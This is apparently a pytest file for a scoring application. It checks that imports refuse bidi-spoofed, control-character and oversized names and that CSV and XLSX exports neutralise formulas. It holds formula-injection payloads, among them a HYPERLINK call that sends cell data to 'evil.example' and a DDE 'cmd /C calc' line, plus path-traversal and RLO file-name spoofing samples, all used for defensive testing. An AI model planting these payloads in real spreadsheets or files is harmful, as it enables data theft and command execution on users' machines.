"""Hostile text (issue 11, points 2, 11 and 12): names with control, bidi and zero-width
characters, 60,000-character names, Big5 and Shift-JIS files, formulas in names.

Every hostile input is built here in code. A refused import names its reason code
(`TextRefusal`) and line, and leaves the workspace's `.dump` and its folder as they were;
an export of whatever a workspace holds gives a file that opens, never a traceback.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import tempfile
import time
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qz_evaluator.assets import criteria_set
from qz_evaluator.domain.credit_code import check_character
from qz_evaluator.domain.scorecard import Scorecard, ScorecardStatus, TextField
from qz_evaluator.domain.text import FILE_NAME_PART_LIMIT, NAME_LIMIT, safe_file_name
from qz_evaluator.services import demo, reports, results, results_export
from qz_evaluator.services.csv_files import TextRefused
from qz_evaluator.services.errors import ImportFailed
from qz_evaluator.services.imports import import_candidates, import_roster
from qz_evaluator.services.scorecard_files import export_scorecard
from qz_evaluator.services.scoring import ScoringService
from qz_evaluator.store.workspace import Role, Workspace

HEADER = ["credit_code", "name", "county", "industry", "tier"]


def code(index: int) -> str:
    first17 = f"91330800MA2X{index:05d}"
    return first17 + check_character(first17)


def dump(workspace: Workspace) -> str:
    return "\n".join(workspace.db.conn.iterdump())


def files(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()}


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def refused(workspace: Workspace, path: Path, reason: str, line: int | None) -> TextRefused:
    """The import of `path` is refused for `reason` on `line`, and changes nothing."""
    before, folder = dump(workspace), files(path.parent)
    with pytest.raises(TextRefused) as caught:
        import_candidates(workspace, path)
    assert (caught.value.code, caught.value.line) == (reason, line)
    assert str(path) in str(caught.value)
    assert dump(workspace) == before
    assert files(path.parent) == folder
    return caught.value


# ----- point 12: encodings ----------------------------------------------------------------


TRADITIONAL = [
    ["統一社會信用代碼", "單位名稱", "縣（市、區）", "行業", "梯隊"],
    [code(1), "衢州示範新材料有限公司", "柯城區", "製造業", "種子"],
    [code(2), "龍遊電子資訊股份有限公司", "龍遊縣", "電子資訊", "潛力"],
]
JAPANESE = [
    ["credit_code", "name", "county", "industry", "tier"],
    [code(1), "株式会社テスト", "東京都", "製造業", "seed"],
]


@pytest.mark.parametrize(
    ("rows", "encoding", "line"),
    [(TRADITIONAL, "big5", 1), (JAPANESE, "shift_jis", 2)],
    ids=["big5", "sjis"],
)
def test_big5_and_shift_jis_are_refused_not_stored_as_mojibake(
    workspace: Workspace, tmp_path: Path, rows: list[list[str]], encoding: str, line: int
) -> None:
    path = write_csv(tmp_path / f"{encoding}.csv", rows, encoding)
    error = refused(workspace, path, "undecodable-text", line)  # its first odd character
    assert "CSV UTF-8" in str(error)


def test_bytes_that_are_no_text_name_their_line(workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "garbled.csv"
    path.write_bytes(",".join(HEADER).encode() + b"\n" + code(1).encode() + b",\x80\xff\n")
    refused(workspace, path, "undecodable-text", 2)


def test_gb18030_with_a_rare_character_still_imports(workspace: Workspace, tmp_path: Path) -> None:
    rows = [
        ["统一社会信用代码", "单位名称", "县（市、区）", "行业", "梯队"],
        [code(1), "衢州市喆宇新材料有限公司", "柯城区", "新材料", "种子"],
        [code(2), "衢州市衢峰电子科技有限公司", "柯城区", "集成电路", "潜力"],
    ]
    import_candidates(workspace, write_csv(tmp_path / "gbk.csv", rows, "gb18030"))
    assert workspace.candidate(code(1)).name == "衢州市喆宇新材料有限公司"


# ----- point 12: names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "reason", "named"),
    [
        ("\u200b", "no-visible-text", ""),
        ("\u200b\u200d\u3164 ", "no-visible-text", ""),
        ("衢州\x00示例", "control-character", "U+0000"),
        ("衢州\x1b[31m示例", "control-character", "U+001B"),
        ("衢州\r\n示例", "control-character", "U+000D"),
        ("衢州\n示例", "control-character", "U+000A"),
        ("罗思丽\u202eexe.fdp\u202c", "control-character", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("衢州\u2067示例", "control-character", "U+2067 RIGHT-TO-LEFT ISOLATE"),
        ("衢州\u200b示例", "control-character", "U+200B ZERO WIDTH SPACE"),
        ("衢" * (NAME_LIMIT + 1), "text-too-long", ""),
        ("衢" * 60_000, "text-too-long", ""),
    ],
    ids=["zwsp", "fillers", "nul", "ansi", "crlf", "lf", "rlo", "rli", "zw-inside", "201", "60k"],
)
def test_hostile_names_are_refused_with_line_and_reason(
    workspace: Workspace, tmp_path: Path, name: str, reason: str, named: str
) -> None:
    rows = [HEADER, [code(1), "衢州示例有限公司", "柯城区", "新材料", "seed"]]
    rows.append([code(2), name, "柯城区", "新材料", "seed"])
    error = refused(workspace, write_csv(tmp_path / "c.csv", rows), reason, 3)
    assert named in str(error)
    assert "column name" in str(error)


def test_a_name_at_the_limit_imports(workspace: Workspace, tmp_path: Path) -> None:
    rows = [HEADER, [code(1), "衢" * NAME_LIMIT, "柯城区", "新材料", "seed"]]
    import_candidates(workspace, write_csv(tmp_path / "c.csv", rows))
    assert len(workspace.candidate(code(1)).name) == NAME_LIMIT


def test_other_columns_and_the_roster_follow_the_same_rules(
    workspace: Workspace, tmp_path: Path
) -> None:
    rows = [HEADER, [code(1), "衢州示例有限公司", "柯城\x1b区", "新材料", "seed"]]
    error = refused(workspace, write_csv(tmp_path / "c.csv", rows), "control-character", 2)
    assert "column county" in str(error)
    roster = write_csv(
        tmp_path / "roster.csv", [["code", "name", "level"], ["P01", "罗\u202e思丽", "provincial"]]
    )
    before = dump(workspace)
    with pytest.raises(TextRefused) as caught:
        import_roster(workspace, roster)
    assert (caught.value.code, caught.value.line) == ("control-character", 2)
    assert dump(workspace) == before


# ----- the one file-name rule ---------------------------------------------------------------


def test_file_names_from_hostile_names_are_plain() -> None:
    assert safe_file_name("罗思丽\u202eexe.fdp\u202c") == "罗思丽_exe.fdp"
    assert safe_file_name("a\x00b\x1bc") == "a_b_c"
    assert safe_file_name("..\\..\\x") == "x"
    assert len(safe_file_name("衢" * 60_000)) == FILE_NAME_PART_LIMIT


@given(st.text())
def test_safe_file_name_keeps_only_letters_digits_and_plain_marks(text: str) -> None:
    name = safe_file_name(text)
    assert len(name) <= FILE_NAME_PART_LIMIT
    assert not name.startswith((".", "_")) and not name.endswith((".", "_"))
    for char in name:
        assert char in "-_.()（）·" or unicodedata.category(char)[0] in "LNM", repr(char)
    assert safe_file_name(name) == name


# ----- point 11 and point 2: exports of whatever a workspace holds -------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",
)


@pytest.fixture(scope="module")
def secretariat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """The secretariat's demo: a merged round, with its demo signing identity."""
    folder = tmp_path_factory.mktemp("secretariat")
    workspace, _ = demo.build_secretariat_demo(folder / "sec.qzw", folder / "scratch")
    demo.start_secretariat_demo_identity(workspace)
    yield workspace
    workspace.close()


def rename(workspace: Workspace, credit_code: str, name: str) -> None:
    """Put a name in the workspace as an older version of the program could have."""
    candidate = workspace.candidate(credit_code)
    workspace.upsert_candidate(dataclasses.replace(candidate, name=name), reason="test")


def scored_codes(workspace: Workspace) -> list[str]:
    return sorted({s.credit_code for s in workspace.submissions()})


def test_formulas_in_names_are_text_in_csv_and_xlsx(secretariat: Workspace) -> None:
    computed = results.compute(secretariat, demo.SITE_ROUND)
    codes = [o.candidate.credit_code for o in computed.outcomes][: len(FORMULAS)]
    assert len(codes) == len(FORMULAS)
    named = dict(zip(codes, FORMULAS, strict=True))
    for credit_code, name in named.items():
        rename(secretariat, credit_code, name)
    computed = results.compute(secretariat, demo.SITE_ROUND)

    table = list(csv.reader(io.StringIO(results_export.to_csv(computed).decode("utf-8-sig"))))
    header = table[0]
    by_code = {row[header.index("统一社会信用代码")]: row for row in table[1:]}
    for credit_code, name in named.items():
        assert by_code[credit_code][header.index("单位名称")] == "'" + name

    data = results_export.to_xlsx(computed)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(data))["评审结果"]
    rows = list(sheet.iter_rows())
    names = [c.value for c in rows[0]]
    name_at, code_at = names.index("单位名称"), names.index("统一社会信用代码")
    official_at = names.index("最终得分")
    seen = 0
    for row in rows[1:]:
        name_cell = row[name_at]
        assert name_cell.data_type == "s"
        if row[code_at].value in named:
            seen += 1
            # The exact name, shown as text by Excel's own apostrophe (quotePrefix).
            assert name_cell.value == named[row[code_at].value]
            assert name_cell.quotePrefix
        official = row[official_at].value
        assert official in (None, "") or isinstance(official, float)  # numbers stay numbers
    assert seen == len(FORMULAS)


@pytest.mark.parametrize(
    "name", ["衢州\x1b[31m示例\x00公司\u202e", "衢" * 60_000], ids=["esc-nul-rlo", "60k"]
)
def test_reports_and_exports_of_hostile_names_work(
    secretariat: Workspace, tmp_path: Path, name: str
) -> None:
    credit_code = scored_codes(secretariat)[0]
    rename(secretariat, credit_code, name)
    started = time.monotonic()
    computed = results.compute(secretariat, demo.SITE_ROUND)
    results_export.write(computed, tmp_path / "r.xlsx")
    results_export.write(computed, tmp_path / "r.csv")
    reports.results_report(secretariat, demo.SITE_ROUND, tmp_path / "r.pdf", computed=computed)
    reports.feedback_report(
        secretariat, demo.SITE_ROUND, credit_code, tmp_path / "f.pdf", computed=computed
    )
    assert time.monotonic() - started < 60  # cutting a chart label was quadratic: minutes
    assert files(tmp_path) == {"r.xlsx", "r.csv", "r.pdf", "f.pdf"}  # no .part left
    book = load_workbook(tmp_path / "r.xlsx")
    shown = [c.value for row in book["评审结果"].iter_rows() for c in row]
    expected = "衢州\ufffd[31m示例\ufffd公司\ufffd" if "\x1b" in name else None
    if expected is not None:
        assert expected in shown
    for path in ("r.pdf", "f.pdf"):
        assert (tmp_path / path).read_bytes().startswith(b"%PDF")


@pytest.fixture
def evaluator(tmp_path: Path) -> Iterator[Workspace]:
    """The demo's evaluator P01 with the demo's signing identity of this session."""
    workspace = demo.build_demo(tmp_path / "p01.qzw")
    demo.start_demo_identity(workspace)
    yield workspace
    workspace.close()


def final_card(workspace: Workspace) -> Scorecard:
    service = ScoringService(workspace)
    card = service.ensure_all(demo.SITE_ROUND)[-1]
    for item in criteria_set(card.criteria_id).items:
        card = service.set_percent(card, item.code, 60).card
        card = service.set_text(card, item.code, TextField.STRENGTHS, "方法系统").card
    card = service.finalise(card, affirm_declaration=True).card
    assert card.status is ScorecardStatus.FINAL
    return card


@pytest.mark.parametrize(
    "name", ["衢州\x00示例\x1b公司\u202eexe.fdp", "衢" * 60_000], ids=["nul-esc-rlo", "60k"]
)
def test_the_evaluators_export_of_hostile_names_works(
    evaluator: Workspace, tmp_path: Path, name: str
) -> None:
    card = final_card(evaluator)
    rename(evaluator, card.credit_code, name)
    out = tmp_path / "out"
    out.mkdir()
    result = export_scorecard(evaluator, card, out)
    assert files(out) == {result.path.name}  # no .part file
    assert re.fullmatch(r"[\w\-.()（）·]+\.pdf", result.path.name)
    assert result.path.read_bytes().startswith(b"%PDF")


# ----- point 12: the property --------------------------------------------------------------

VISIBLE = "衢州罗思丽Ab1-=（）"
BLANK = " \u3000"
CONTROL = "\x00\x1b\r\n\t"
FORMAT = "\u200b\u200f\u202e\u2066"
FILLER = "\u3164"
ALPHABET = VISIBLE + BLANK + CONTROL + FORMAT + FILLER

names = st.one_of(
    st.text(alphabet=ALPHABET, max_size=12),
    st.integers(NAME_LIMIT - 2, NAME_LIMIT + 2).map(lambda n: "衢" * n),
)
rows_strategy = st.lists(st.tuples(st.integers(1, 6), names), max_size=6)


def model(rows: list[tuple[int, str]]) -> dict[str, str] | str:
    """What importing these (code, name) rows gives: the names by credit code, or the
    error code of the first bad row. The rules, said plainly: edges are trimmed; a name
    with nothing visible, with a control or format character, longer than the limit,
    empty, or a code seen before is refused."""
    imported: dict[str, str] = {}
    for index, name in rows:
        name = name.strip()
        if name and not any(c in VISIBLE for c in name):
            return "no-visible-text"
        if any(c in CONTROL + FORMAT for c in name):
            return "control-character"
        if len(name) > NAME_LIMIT:
            return "text-too-long"
        if not name or code(index) in imported:
            return "import-failed"
        imported[code(index)] = name
    return imported


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=rows_strategy, bom=st.booleans())
def test_candidate_import_is_the_model_or_refused_with_nothing_written(
    rows: list[tuple[int, str]], bom: bool
) -> None:
    expected = model(rows)
    with tempfile.TemporaryDirectory(prefix="qz-texts-") as folder:
        workspace = Workspace.create(Path(folder) / "ws.qzw", Role.SECRETARIAT)
        try:
            table = [HEADER] + [[code(i), n, "柯城区", "新材料", "seed"] for i, n in rows]
            path = write_csv(Path(folder) / "c.csv", table, "utf-8-sig" if bom else "utf-8")
            before, listing = dump(workspace), files(Path(folder))
            try:
                import_candidates(workspace, path)
            except ImportFailed as error:
                assert error.code == expected, (error, expected)
                assert dump(workspace) == before
                assert files(Path(folder)) == listing
                return
            assert isinstance(expected, dict), expected
            stored = {c.credit_code: c.name for c in workspace.candidates()}
            assert stored == expected
        finally:
            workspace.close()


def test_the_cli_prints_the_reason_code_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], memory_keyring: object
) -> None:
    from qz_evaluator.cli import main

    workspace = tmp_path / "sec.qzw"
    assert main(["init", str(workspace), "--role", "secretariat"]) == 0
    path = write_csv(tmp_path / "big5.csv", TRADITIONAL, "big5")
    before = files(tmp_path)
    capsys.readouterr()
    returncode = main(["candidates", "import", str(path), "-w", str(workspace), "--json"])
    out, err = capsys.readouterr()
    assert returncode == 1
    error = json.loads(out)["error"]
    assert error["code"] == "undecodable-text"
    assert f"{path}, line 1: " in error["message"]
    assert "Traceback" not in err
    assert files(tmp_path) == before
